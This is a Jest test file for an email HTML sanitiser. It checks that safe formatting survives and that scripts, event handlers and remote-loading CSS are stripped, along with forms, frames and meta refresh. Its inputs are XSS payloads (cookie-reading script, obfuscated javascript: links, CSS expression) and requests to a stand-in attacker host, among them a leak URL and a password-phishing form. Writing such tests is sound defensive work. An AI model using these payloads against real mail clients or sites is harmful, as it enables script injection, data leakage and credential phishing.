// The server-side sanitiser of received HTML: formatting, tables and inline images stay; script,
// event handlers, script URLs, CSS that loads or runs, forms, frames, objects, meta refresh and
// base are gone; links open without opener or referrer.
import { sanitizeEmailHtml } from '../../core/mail/sanitizeHtml';

const PIXEL =
	'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

describe('sanitizeEmailHtml', () => {
	it('keeps formatting, tables, inline images and harmless inline styles', () => {
		const html = `<div style="color: #333; font-size: 14px"><p><b>Bold</b> <i>it</i> <u>u</u></p>
			<table border="0" cellpadding="4"><tr><td colspan="2" style="background-color: rgb(250, 250, 250)">Cell</td></tr></table>
			<ul><li>one</li></ul><img src="${PIXEL}" alt="dot" width="1"><img src="cid:logo@acme" alt="logo">
			<a href="https://acme.example/offer">Offer</a> <a href="mailto:ann@acme.example">Mail</a></div>`;
		const clean = sanitizeEmailHtml(html);
		expect(clean).toContain('<b>Bold</b>');
		expect(clean).toContain(
			'<td colspan="2" style="background-color:rgb(250, 250, 250)">Cell</td>',
		);
		expect(clean).toContain('style="color:#333;font-size:14px"');
		expect(clean).toContain(`<img src="${PIXEL}" alt="dot" width="1" />`);
		expect(clean).toContain('<img src="cid:logo@acme" alt="logo" />');
		expect(clean).toContain(
			'<a href="https://acme.example/offer" target="_blank" rel="noopener noreferrer">Offer</a>',
		);
		expect(clean).toContain('href="mailto:ann@acme.example"');
	});

	it('removes script, event handlers and javascript:/vbscript:/data: links', () => {
		const clean =
			sanitizeEmailHtml(`<p onclick="steal()">Hi<script>alert(document.cookie)</script></p>
			<img src="${PIXEL}" onerror="alert(1)" onload="alert(2)">
			<a href="javascript:alert(1)">js</a><a href="JaVaScRiPt&#58;alert(1)">js2</a>
			<a href=" vbscript:msgbox(1)">vb</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
			<svg><script>alert(3)</script><circle onload="alert(4)"/></svg><math><mi xlink:href="javascript:alert(5)">x</mi></math>
			<body onload="alert(6)"><div style="width: expression(alert(7))">e</div>`);
		expect(clean).not.toMatch(
			/script|alert|onerror|onload|onclick|javascript|vbscript|data:text|expression|svg|math/i,
		);
		expect(clean).toContain('<p>Hi</p>');
		// The links stay as text without their href.
		expect(clean).toMatch(/<a>js<\/a>/);
	});

	it('removes CSS that loads from elsewhere: url(), @import, <style>, <link>, remote images, background', () => {
		const clean =
			sanitizeEmailHtml(`<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/leak?q=1) }</style>
			<link rel="stylesheet" href="https://evil.example/b.css">
			<p style="background-image: url('https://evil.example/c.png'); color: red">styled</p>
			<p style="background: u\\72l(https://evil.example/d.png)">escaped</p>
			<div style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml)">b</div>
			<table background="https://evil.example/t.png"><tr><td>t</td></tr></table>
			<img src="https://evil.example/pixel.gif" alt="track"><img src="//evil.example/p.gif"><img srcset="https://evil.example/s.png 1x">
			<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`);
		expect(clean).not.toContain('evil.example');
		expect(clean).not.toMatch(/url\(|@import|<style|<link|<img|svg/i);
		expect(clean).toContain('<p style="color:red">styled</p>');
	});

	it('removes forms, frames, objects, meta refresh and base', () => {
		const clean =
			sanitizeEmailHtml(`<form action="https://evil.example/phish" method="post"><input name="password" type="password"><button formaction="https://evil.example">Log in</button><textarea>t</textarea><select><option>o</option></select></form>
			<iframe src="https://evil.example/frame"></iframe><frameset><frame src="https://evil.example/f"></frameset>
			<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf"><applet code="x"></applet>
			<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
			<a href="relative/path">rel</a>`);
		expect(clean).not.toMatch(
			/evil\.example|<form|<input|<button|<textarea|<select|<iframe|<frame|<object|<embed|<applet|<meta|<base/i,
		);
		expect(clean).toContain('Log in');
	});

	it('gives an empty text for no HTML', () => {
		expect(sanitizeEmailHtml(null)).toBe('');
		expect(sanitizeEmailHtml('')).toBe('');
	});
});
